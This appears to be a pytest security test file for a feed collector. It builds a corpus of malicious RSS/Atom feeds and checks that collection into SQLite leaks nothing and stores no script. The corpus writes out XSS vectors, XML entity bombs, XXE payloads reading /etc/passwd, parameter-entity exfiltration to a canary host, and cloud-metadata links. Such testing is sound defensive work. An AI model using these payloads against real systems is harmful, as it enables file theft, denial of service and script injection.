"""Hostile feeds through the real collection path: a loopback server serves a corpus of ill-formed and
malicious feeds written here, ``jiance.sources.collect`` collects them into a real SQLite store, and the
suite proves that nothing escaped: every feed ends in a run record (no exception), no connection reaches the
canary, no file content or canary answer is stored or reported, no ``<script`` or ``on*=`` attribute is
stored in any text field, and parsing the bombs stays within a memory bound (measured in a subprocess).

The feed server sits on 127.0.0.2, trusted through ``FetchPolicy.trusted_networks``; the canary on
127.0.0.1 stays refused, so an entry linking to it is a refused fetch, not a hit.
"""

from __future__ import annotations

import json
import re
import sqlite3
import subprocess
import sys
import textwrap
from collections.abc import Iterator
from pathlib import Path

import pytest
from tests.reliability.figures import record
from tests.reliability.net_servers import CANARY_MARKER, ConnectionCanary, StreamServer

from jiance.settings import Settings
from jiance.sources.collect import RunReport, collect_all
from jiance.sources.config import SourceConfig
from jiance.sources.http import Fetcher, FetchPolicy
from jiance.store.sqlite import SQLiteStore

COMMAND = ".venv/bin/pytest -q -p no:randomly tests/reliability/test_hostile_feeds.py"
SECRET_MARKER = "JIANCE-SECRET-4b1d9e"
POLICY = FetchPolicy(
    connect_timeout_s=2,
    read_timeout_s=3,
    total_timeout_s=5,
    per_host_delay_s=0,
    respect_robots=False,
    max_attempts=1,
    trusted_networks=("127.0.0.2/32",),
)
MEMORY_BOUND_MB = 64  # peak memory growth parsing any one bomb (the largest feed is ~1.2 MB)

SCRIPT_RE = re.compile(r"<\s*script", re.IGNORECASE)
HANDLER_RE = re.compile(r"<[a-z!/][^>]*?[\s/\"']on[a-z]+\s*=", re.IGNORECASE)

# --- the corpus ------------------------------------------------------------------------------------------

FILLER = (
    "本周电子信息制造业运行平稳，集成电路产量同比增长，出口交货值稳中有升，通信设备行业收入继续增长。" * 4
)

XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" ONERROR ="alert(1)">',
    "<svg onload=alert(1)><circle/></svg>",
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">点此</a>',
    '<a href="jav&#x09;ascript:alert(1)">点此</a>',
    "<iframe src=javascript:alert(1)></iframe>",
    '<div style="background:url(javascript:alert(1))">样式</div>',
    '<math><mi xlink:href="javascript:alert(1)">m</mi></math>',
    '<object data="javascript:alert(1)"></object>',
    '"><script>alert(1)</script>',
    "<!--<script>alert(1)</script>-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<p onclick=\"steal()\" onmouseover='x()'>段落</p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<form action=javascript:alert(1)><input onfocus=alert(1) autofocus></form>",
    "<details open ontoggle=alert(1)>",
]


def filler(key: object) -> str:
    """Article text over MIN_CONTENT_CHARS, different for every key (the store keeps one copy of a text)."""
    return f"第{key}号稿件。" + FILLER


def _esc(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def _cdata(text: str) -> str:
    return "<![CDATA[" + text.replace("]]>", "]]]]><![CDATA[>") + "]]>"


def rss2(items: str, *, head: str = "", title: str = "测试源", decl: str = "utf-8") -> str:
    return (
        f'<?xml version="1.0" encoding="{decl}"?>{head}<rss version="2.0" '
        'xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/">'
        f"<channel><title>{title}</title><link>http://news.example.cn/</link>{items}</channel></rss>"
    )


def rss2_item(link: str, field: str, n: object) -> str:
    return (
        f"<item><title>{field}标题{n}</title><link>{link}</link><guid>{field}</guid>"
        f"<author>{field}</author><dc:creator>{field}</dc:creator><category>{field}</category>"
        f"<description>{field}</description><content:encoded>{field}{_esc(filler(n))}</content:encoded></item>"
    )


def atom(link: str, field: str, n: object, kind: str) -> str:
    return (
        '<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom">'
        f'<title type="{kind}">{field}</title><entry><title type="{kind}">{field}标题{n}</title>'
        f'<link href="{_esc(link)}"/><id>{field}</id><author><name>{field}</name></author>'
        f'<summary type="{kind}">{field}</summary><content type="{kind}">{field}{_esc(filler(n))}</content>'
        "<updated>2023-03-01T08:00:00Z</updated></entry></feed>"
    )


def rdf(link: str, field: str, n: object) -> str:
    return (
        '<?xml version="1.0" encoding="utf-8"?><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
        'xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/" '
        'xmlns:content="http://purl.org/rss/1.0/modules/content/">'
        f'<channel rdf:about="http://rdf.example.cn/"><title>{field}</title></channel>'
        f'<item rdf:about="{_esc(link)}"><title>{field}标题{n}</title><link>{link}</link>'
        f"<dc:creator>{field}</dc:creator><description>{field}</description>"
        f"<content:encoded>{field}{_esc(filler(n))}</content:encoded></item></rdf:RDF>"
    )


def rss091(link: str, field: str, n: object) -> str:
    return (
        '<?xml version="1.0" encoding="utf-8"?><rss version="0.91"><channel><title>早期</title>'
        f"<item><title>{field}标题{n}</title><link>{link}</link><description>{field}{_esc(filler(n))}"
        "</description></item></channel></rss>"
    )


def xss_corpus(base: str) -> dict[str, bytes]:
    """Every vector in every field, escaped and in CDATA, in RSS 2.0, Atom (text/html/xhtml), RDF, RSS 0.91."""
    corpus: dict[str, bytes] = {}
    for n, vector in enumerate(XSS):
        link = f"{base}/news/xss/{n}.html"
        escaped, cdata = _esc(vector), _cdata(vector)
        corpus[f"xss{n}-rss2-escaped"] = rss2(
            rss2_item(f"{link}?v=a", escaped, f"{n}a"), title=escaped
        ).encode()
        corpus[f"xss{n}-rss2-cdata"] = rss2(rss2_item(f"{link}?v=b", cdata, f"{n}b"), title=cdata).encode()
        corpus[f"xss{n}-atom-text"] = atom(f"{link}?v=c", escaped, f"{n}c", "text").encode()
        corpus[f"xss{n}-atom-html"] = atom(f"{link}?v=d", escaped, f"{n}d", "html").encode()
        xhtml = f'<div xmlns="http://www.w3.org/1999/xhtml">{escaped}</div>'
        corpus[f"xss{n}-atom-xhtml-escaped"] = atom(f"{link}?v=e", xhtml, f"{n}e", "xhtml").encode()
        corpus[f"xss{n}-rdf"] = rdf(f"{link}?v=f", escaped, f"{n}f").encode()
        corpus[f"xss{n}-rss091"] = rss091(f"{link}?v=g", escaped, f"{n}g").encode()
    # Raw markup as XHTML content (well-formed, so the XML parser keeps the elements themselves).
    raw = (
        '<div xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script><img src="x" onerror="alert(1)"/>'
    )
    raw += '<a href="javascript:alert(1)" onclick="x()">链接</a><p onmouseover="y()">段</p></div>'
    corpus["xss-atom-xhtml-raw"] = atom(f"{base}/news/xss/raw.html", raw, 99, "xhtml").encode()
    corpus["xss-link-quote-break"] = rss2(
        rss2_item(f'{base}/news/q.html"&gt;&lt;script&gt;alert(1)&lt;/script&gt;', "链接", 98)
    ).encode()
    return corpus


def _good_item(base: str, n: int) -> str:
    return rss2_item(f"{base}/news/ok/{n}.html", f"正常稿件{n}", n)


def malformed_corpus(base: str) -> dict[str, bytes]:
    """Truncations, wrong nesting, bad entities, undeclared prefixes, encodings, huge values, CDATA tricks."""
    good = rss2(_good_item(base, 1) + _good_item(base, 2))
    corpus: dict[str, bytes] = {}
    data = good.encode()
    for cut in (5, 40, 120, 300, len(data) // 2, len(data) - 30, len(data) - 1):
        corpus[f"truncated-at-{cut}"] = data[:cut]
    corpus["wrong-nesting"] = rss2(
        f"<item><title>错位<link>{base}/news/n/1.html</title></link><description>x</item></description>"
    ).encode()
    corpus["unclosed-everything"] = rss2(
        f"<item><title>未闭合<link>{base}/news/n/2.html<description>"
    ).encode()
    corpus["two-roots"] = (good + good).encode()
    corpus["text-before-root"] = ("垃圾文字" + good).encode()
    for n, entity in enumerate(
        ["&nosuch;", "&#xFFFFFFFF;", "&#0;", "&#x1F;", "&amp", "&#;", "&#x110000;", "&;"]
    ):
        corpus[f"bad-entity-{n}"] = rss2(rss2_item(f"{base}/news/e/{n}.html", f"实体{entity}", n)).encode()
    corpus["undeclared-prefix"] = rss2(
        f'<item><foo:title>x</foo:title><title>前缀</title><link>{base}/news/p/1.html</link><a:b c:d="1"/></item>'
    ).encode()
    corpus["xmlns-rebound"] = (
        '<?xml version="1.0"?><rss version="2.0" xmlns="http://www.w3.org/2005/Atom" '
        f'xmlns:rss="x"><channel><title>命名空间</title>{_good_item(base, 3)}</channel></rss>'
    ).encode()
    corpus["bom-utf8-declared-gbk"] = (
        b"\xef\xbb\xbf" + good.replace('encoding="utf-8"', 'encoding="gbk"').encode()
    )
    corpus["bom-utf16le-declared-utf8"] = good.encode("utf-16-le").join([b"\xff\xfe", b""])
    corpus["bom-utf16be"] = b"\xfe\xff" + good.replace("utf-8", "utf-16").encode("utf-16-be")
    corpus["utf32"] = good.replace("utf-8", "utf-32").encode("utf-32")
    corpus["gbk-bytes-declared-utf8"] = good.encode("gbk")
    corpus["utf8-declared-gbk"] = good.replace('encoding="utf-8"', 'encoding="gbk"').encode()
    corpus["unknown-encoding-label"] = good.replace("utf-8", "x-no-such-charset").encode()
    corpus["invalid-utf8-sequences"] = (
        data[:200] + b"\xc3\x28\xa0\xa1\xe2\x28\xa1\xf0\x28\x8c\xbc" + data[200:]
    )
    corpus["bom-in-the-middle"] = data[:150] + b"\xef\xbb\xbf\xff\xfe" + data[150:]
    corpus["nul-bytes"] = data.replace(b"<item>", b"<item>\x00\x00", 1)
    corpus["control-chars"] = rss2(rss2_item(f"{base}/news/c/1.html", "控制\x01\x08\x0b\x1b字符", 1)).encode()
    corpus["lone-surrogate-refs"] = rss2(
        rss2_item(f"{base}/news/s/1.html", "代理&#xD800;&#xDFFF;", 1)
    ).encode()
    corpus["huge-attribute"] = rss2(
        f'<item><title a="{"x" * 1_000_000}">巨大属性</title><link>{base}/news/h/1.html</link></item>'
    ).encode()
    corpus["huge-attribute-unterminated"] = rss2(f'<item><title a="{"y" * 1_000_000}').encode()
    corpus["many-attributes"] = rss2(
        "<item><title "
        + " ".join(f'a{i}="{i}"' for i in range(50_000))
        + f">多属性</title><link>{base}/m</link></item>"
    ).encode()
    corpus["huge-text-node"] = rss2(
        _good_item(base, 10).replace("<description>", "<description>" + "长" * 400_000)
    ).encode()
    corpus["deep-xml-nesting"] = rss2("<x>" * 5_000 + "深" + "</x>" * 5_000 + _good_item(base, 4)).encode()
    corpus["deep-html-nesting"] = rss2(
        rss2_item(f"{base}/news/d/1.html", _esc("<div>" * 1_500 + "深层" + "</div>" * 1_500), 1)
    ).encode()
    corpus["deep-html-unclosed"] = rss2(
        rss2_item(f"{base}/news/d/2.html", _esc("<b><i>" * 2_000 + "x"), 2)
    ).encode()
    corpus["cdata-unterminated"] = rss2(
        f"<item><title><![CDATA[未结束</title><link>{base}/news/k/1.html</link>"
    ).encode()
    corpus["cdata-nested-end"] = rss2(
        f"<item><title><![CDATA[a]]>b]]></title><link>{base}/news/k/2.html</link></item>"
    ).encode()
    corpus["cdata-in-attribute"] = rss2(
        f'<item><title x="<![CDATA[<script>alert(1)</script>]]>">属性</title><link>{base}/news/k/3.html</link></item>'
    ).encode()
    corpus["cdata-hides-item"] = rss2(
        f"<![CDATA[<item><title><script>alert(1)</script></title><link>{base}/news/k/4.html</link></item>]]>"
    ).encode()
    corpus["processing-instructions"] = rss2(
        "<?php system('id'); ?><?xml-stylesheet href='javascript:alert(1)'?>" + _good_item(base, 5)
    ).encode()
    corpus["no-links-at-all"] = rss2("<item><title>无链接</title></item>" * 500).encode()
    corpus["only-javascript-links"] = rss2(rss2_item("javascript:alert(1)", "脚本链接", 1)).encode()
    corpus["not-xml-at-all"] = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40
    corpus["html-page-not-feed"] = (
        "<html><body onload=alert(1)><script>alert(1)</script><p>网页</p></body></html>".encode()
    )
    corpus["json-not-feed"] = b'{"rss": {"channel": "<script>alert(1)</script>"}}'
    return corpus


def entity_corpus(base: str, canary: str, secret_uri: str) -> dict[str, bytes]:
    """Entity expansion, external entities and DTDs, each one-line and one-declaration-per-line."""
    laughs = '<!ENTITY l0 "lol">' + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    subsets = {
        "billion-laughs": (laughs, "&l9;"),
        "quadratic-blowup": (f'<!ENTITY a "{"x" * 50_000}">', "&a;" * 10_000),
        "external-passwd": ('<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;"),
        "external-secret": (f'<!ENTITY x SYSTEM "{secret_uri}">', "&x;"),
        "external-canary": (f'<!ENTITY x SYSTEM "{canary}/entity">', "&x;"),
        "external-public": (f'<!ENTITY x PUBLIC "-//X//Y" "{canary}/public">', "&x;"),
        "parameter-canary": (f'<!ENTITY % p SYSTEM "{canary}/param.dtd"> %p;', "&fromdtd;"),
        "parameter-nested": (
            f'<!ENTITY % f SYSTEM "{secret_uri}"><!ENTITY % w "<!ENTITY &#x25; s SYSTEM \'{canary}/?%f;\'>">'
            " %w; %s;",
            "x",
        ),
        "parameter-laughs": ('<!ENTITY % a "aaaaaaaaaa"><!ENTITY % b "%a;%a;%a;%a;%a;%a;%a;%a;"> %b;', "x"),
        "unparsed-entity": (f'<!NOTATION n SYSTEM "{canary}/n"><!ENTITY u SYSTEM "{canary}/u" NDATA n>', "x"),
        "entity-in-attribute": ('<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;"),
    }
    corpus: dict[str, bytes] = {}
    for name, (subset, use) in subsets.items():
        for layout, sep in (("one-line", ""), ("multi-line", "\n")):
            head = f"{sep}<!DOCTYPE rss [{sep}{subset.replace('><', '>' + sep + '<')}{sep}]>{sep}"
            item = (
                f"<item><title>实体{use}</title><link>{base}/news/ent/{name}.html</link>"
                f"<description>{use}</description><content:encoded>{use}{_esc(filler(name))}</content:encoded></item>"
            )
            corpus[f"{name}-{layout}"] = rss2(item, head=head).encode()
    corpus["external-dtd"] = rss2(
        _good_item(base, 6), head=f'<!DOCTYPE rss SYSTEM "{canary}/outer.dtd">'
    ).encode()
    corpus["external-dtd-public"] = rss2(
        _good_item(base, 7), head=f'<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "{canary}/rss.dtd">'
    ).encode()
    corpus["doctype-unterminated"] = rss2(
        _good_item(base, 8), head=f'<!DOCTYPE rss [<!ENTITY x SYSTEM "{canary}/u">'
    ).encode()
    corpus["doctype-gt-in-quotes"] = rss2(
        "<item><title>&x;</title>" + f"<link>{base}/news/g/1.html</link></item>",
        head=f'<!DOCTYPE rss [<!ENTITY x SYSTEM "{canary}/a>b"><!-- ]> -->]>',
    ).encode()
    corpus["xinclude"] = rss2(
        f'<item xmlns:xi="http://www.w3.org/2001/XInclude"><title>包含<xi:include href="file:///etc/passwd" '
        f'parse="text"/><xi:include href="{canary}/xi"/></title><link>{base}/news/xi/1.html</link></item>'
    ).encode()
    corpus["xml-stylesheet"] = rss2(
        _good_item(base, 9), head=f'<?xml-stylesheet type="text/xsl" href="{canary}/s.xsl"?>'
    ).encode()
    corpus["schema-location"] = (
        f'<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        f'xsi:schemaLocation="http://www.w3.org/2005/Atom {canary}/atom.xsd"><title>模式</title></feed>'
    ).encode()
    # Links that point at the canary: relative links under an xml:base, an enclosure, a short entry whose page
    # the collector would fetch; each must be refused by the address guard, not connected to.
    corpus["xml-base-canary"] = (
        f'<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom" xml:base="{canary}/"><title>基址</title>'
        '<entry><title>短条目</title><link href="news/1.html"/><id>1</id><summary>短</summary></entry></feed>'
    ).encode()
    corpus["entry-links-canary"] = rss2(
        f'<item><title>短</title><link>{canary}/page.html</link><enclosure url="{canary}/e.mp3" '
        f'type="audio/mpeg" length="1"/><description>&lt;img src="{canary}/pixel.png"&gt;短</description></item>'
    ).encode()
    corpus["entry-links-metadata"] = rss2(
        "<item><title>元数据</title><link>http://169.254.169.254/latest/meta-data/</link><description>短</description>"
        "</item><item><title>十进制</title><link>http://2130706433:1/</link><description>短</description></item>"
    ).encode()
    return corpus


def build_corpus(base: str, canary: str, secret_uri: str) -> dict[str, bytes]:
    return {**xss_corpus(base), **malformed_corpus(base), **entity_corpus(base, canary, secret_uri)}


# --- the run ---------------------------------------------------------------------------------------------


@pytest.fixture
def canary() -> Iterator[ConnectionCanary]:
    server = ConnectionCanary("127.0.0.1").start()
    yield server
    server.stop()


@pytest.fixture
def feed_server() -> Iterator[StreamServer]:
    server = StreamServer("127.0.0.2").start()
    yield server
    server.stop()


@pytest.fixture
def secret_file(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text(f"{SECRET_MARKER} do not store me\n", encoding="utf-8")
    return path


def _store_texts(db_path: Path) -> list[tuple[str, str, str]]:
    """(table, column, text) of every non-empty value in the store, BLOBs decoded as UTF-8."""
    found: list[tuple[str, str, str]] = []
    db = sqlite3.connect(db_path)
    try:
        tables = [r[0] for r in db.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
        for table in tables:
            cursor = db.execute(f'SELECT * FROM "{table}"')
            columns = [d[0] for d in cursor.description]
            for row in cursor:
                for column, value in zip(columns, row, strict=True):
                    if isinstance(value, bytes):
                        value = value.decode("utf-8", "replace")
                    if isinstance(value, str) and value:
                        found.append((table, column, value))
    finally:
        db.close()
    return found


def _report_texts(reports: list[RunReport]) -> list[str]:
    texts: list[str] = []
    for report in reports:
        texts += [report.error or "", *report.problems]
        texts += [f"{i.url} {i.title or ''} {i.reason or ''} {i.message or ''}" for i in report.items]
    return texts


def _leaks(texts: list[str], markers: list[str]) -> list[str]:
    return [t[:120] for t in texts if any(m in t for m in markers)]


def test_hostile_feeds_collected_safely(
    tmp_path: Path, canary: ConnectionCanary, feed_server: StreamServer, secret_file: Path
) -> None:
    corpus = build_corpus(feed_server.url(""), canary.url(""), secret_file.as_uri())
    configs = []
    for number, (name, body) in enumerate(corpus.items()):
        feed_server.static(f"/feeds/{number}.xml", body, "application/rss+xml")
        configs.append(SourceConfig(name=name, kind="feed", url=feed_server.url(f"/feeds/{number}.xml")))
    db_path = tmp_path / "jiance.db"
    with SQLiteStore(db_path) as store, Fetcher(POLICY) as fetcher:
        reports = collect_all(configs, fetcher, store, Settings())
        articles = store.count_articles()

    assert len(reports) == len(corpus)
    crashed = [r.source for r in reports if r.error and r.error.startswith("internal-error")]
    item_crashes = [(r.source, i.message) for r in reports for i in r.items if i.reason == "internal-error"]
    assert crashed == [] and item_crashes == [], (crashed, item_crashes)
    assert canary.connections == 0

    passwd = Path("/etc/passwd").read_text("utf-8", "replace").splitlines()[0]  # root:x:0:0:...
    markers = [SECRET_MARKER, CANARY_MARKER, passwd]
    stored = _store_texts(db_path)
    stored_leaks = _leaks([t for _, _, t in stored], markers)
    output_leaks = _leaks(_report_texts(reports), markers)
    assert stored_leaks == [] and output_leaks == []
    scripts = [(t, c, v[:100]) for t, c, v in stored if SCRIPT_RE.search(v)]
    handlers = [(t, c, v[:100]) for t, c, v in stored if HANDLER_RE.search(v)]
    assert scripts == [] and handlers == [], (scripts[:5], handlers[:5])
    assert articles > len(XSS)  # the hostile feeds still gave their articles, cleaned

    statuses = [r.status for r in reports]
    record(
        "hostile-feeds",
        "corpus through collect into SQLite",
        {
            "feeds": len(corpus),
            "parsed_without_exception": len(corpus) - len(crashed),
            "runs_ok": statuses.count("ok"),
            "runs_degraded": statuses.count("degraded"),
            "runs_failed": statuses.count("failed"),
            "articles_stored": articles,
            "canary_connections": canary.connections,
            "leaked_file_or_canary_contents": len(stored_leaks) + len(output_leaks),
            "stored_script_tags": len(scripts),
            "stored_on_handlers": len(handlers),
            "stored_text_values_checked": len(stored),
        },
        command=COMMAND,
    )


# --- memory ----------------------------------------------------------------------------------------------

_MEASURE = textwrap.dedent(
    """
    import json, os, resource, sys, time
    from pathlib import Path
    from jiance.errors import JianceError
    from jiance.sources.feeds import parse_feed

    def resident():
        with open("/proc/self/statm") as statm:
            return int(statm.read().split()[1]) * os.sysconf("SC_PAGE_SIZE")

    def measure(data):
        # In a forked child: its high-water mark starts at the resident size it inherited, so the growth
        # over that is what parsing this one feed took, whatever the imports cost before.
        before = resident()
        started = time.monotonic()
        try:
            parse_feed(data, "http://feeds.example.cn/x.xml")
            outcome = "parsed"
        except JianceError as error:
            outcome = type(error).__name__
        peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024
        return {"bytes": len(data), "seconds": time.monotonic() - started, "outcome": outcome,
                "growth": max(0, peak - before)}

    parse_feed(b"<rss version='2.0'><channel><title>warm</title></channel></rss>", "http://x.cn/")
    out = {}
    for path in sorted(Path(sys.argv[1]).iterdir()):
        data = path.read_bytes()
        reader, writer = os.pipe()
        child = os.fork()
        if child == 0:
            os.close(reader)
            os.write(writer, json.dumps(measure(data)).encode())
            os._exit(0)
        os.close(writer)
        with os.fdopen(reader) as pipe:
            out[path.name] = json.loads(pipe.read())
        os.waitpid(child, 0)
    print(json.dumps(out))
    """
)
BOMBS = (
    "billion-laughs",
    "quadratic-blowup",
    "parameter-laughs",
    "huge-attribute",
    "many-attributes",
    "huge-text-node",
    "deep-xml-nesting",
    "deep-html-nesting",
    "deep-html-unclosed",
)


def test_bombs_parse_in_bounded_memory(tmp_path: Path, secret_file: Path) -> None:
    corpus = build_corpus("http://feeds.example.cn", "http://127.0.0.1:9", secret_file.as_uri())
    chosen = {name: data for name, data in corpus.items() if name.startswith(BOMBS)}
    folder = tmp_path / "bombs"
    folder.mkdir()
    for name, data in chosen.items():
        (folder / f"{name}.xml").write_bytes(data)
    done = subprocess.run(
        [sys.executable, "-c", _MEASURE, str(folder)], capture_output=True, text=True, timeout=120, check=True
    )
    feeds = json.loads(done.stdout)
    assert len(feeds) == len(chosen)
    heavy = {n: round(f["growth"] / 1e6, 1) for n, f in feeds.items() if f["growth"] > MEMORY_BOUND_MB * 1e6}
    assert heavy == {}, heavy
    growth = max(f["growth"] for f in feeds.values())
    record(
        "hostile-feeds",
        "bomb parsing memory (forked child per bomb, ru_maxrss)",
        {
            "bombs": len(feeds),
            "largest_feed_bytes": max(f["bytes"] for f in feeds.values()),
            "peak_rss_growth_mb": round(growth / 1e6, 1),
            "bound_mb": MEMORY_BOUND_MB,
            "worst_parse_s": round(max(f["seconds"] for f in feeds.values()), 2),
        },
        command=COMMAND,
    )
